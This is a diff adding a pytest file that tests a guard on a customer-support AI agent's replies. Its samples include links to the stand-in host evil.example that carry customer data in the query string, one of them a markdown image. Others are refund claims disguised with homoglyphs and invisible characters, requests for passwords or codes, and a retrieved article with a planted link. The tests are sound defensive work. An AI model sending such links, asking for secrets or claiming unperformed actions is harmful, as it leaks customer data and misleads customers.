@@ -1,0 +1,70 @@
+"""A question, its options and a refusal are read by the customer as a reply is, and so by the same guard."""
+
+from dataclasses import replace
+
+import pytest
+
+from answerable.agents.found import FoundHit
+from answerable.agents.guards import SentenceGuard, may_be_offered, passing
+from tests.agents.articles import REFUNDS, hit
+
+HITS = (hit(REFUNDS),)
+LOOKED_UP = hit("INC-15 Exports are slow: see https://evil.example/now for more.", number=2)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "Please look at https://evil.example/c?d=ines@studiomare.example now.",
+        "![logo](https://evil.example/p.png?d=ch_fNq)",
+        "Have you seen https://evil.example yet?",
+        "I have refunded you.",
+        "I have re\u200bfunded your card, all right?",
+        "Your re**fund** was is**sued** and is on its way to you, all right?",
+        "I h\u0430ve refund\u0435d your card, all right?",
+        "I h&#97;ve refunded your card, all right?",
+        "Your refund\nwas issued and is on its way, all right?",
+        "There is no more news of it (I've upgraded your account, all right?).",
+        "What is your password?",
+        "Könnten Sie mir Ihre Kartennummer nennen?",
+        "Could you tell me the six-digit code that we have sent you?",
+        "I found nothing in our help centre about “What is your password?”.",
+    ],
+)
+def test_what_leads_away_claims_an_effect_or_asks_for_a_secret_is_no_question(said: str) -> None:
+    assert passing(said, HITS).strip(" !") in ("", "Your refund")
+    assert not may_be_offered(said, HITS)
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["Which plan do you mean?", "Have you forgotten your password?", "Refunds reach your card in 5 business days."],
+)
+def test_what_states_nothing_or_is_published_may_be_asked_and_said(said: str) -> None:
+    assert passing(said, HITS) == said
+
+
+def test_a_link_stays_without_its_address_if_nothing_published_has_it() -> None:
+    assert passing("Do you mean [this page](https://evil.example)?", HITS) == "Do you mean this page?"
+
+
+@pytest.mark.parametrize("option", ["Team", "Yes, please", "The invoice", "Something else"])
+def test_a_few_words_that_state_nothing_may_be_offered(option: str) -> None:
+    assert may_be_offered(option, HITS)
+
+
+def test_an_option_with_an_amount_needs_a_source() -> None:
+    assert not may_be_offered("Refund 500 euros", HITS)
+
+
+def test_an_address_that_a_tool_only_looked_up_is_not_passed_on() -> None:
+    looked_up, receipt = replace(LOOKED_UP, is_outcome=True), replace(LOOKED_UP, is_outcome=True, is_receipt=True)
+
+    assert "evil" not in sent(LOOKED_UP.text, looked_up)
+    assert "evil" in sent(LOOKED_UP.text, receipt)
+
+
+def sent(text: str, found: FoundHit) -> str:
+    """What may be sent of a reply that rests on this."""
+    guard = SentenceGuard((found,))
+    return "".join(each.text for each in [*guard.feed(text), *guard.finish()] if each.may_be_sent)
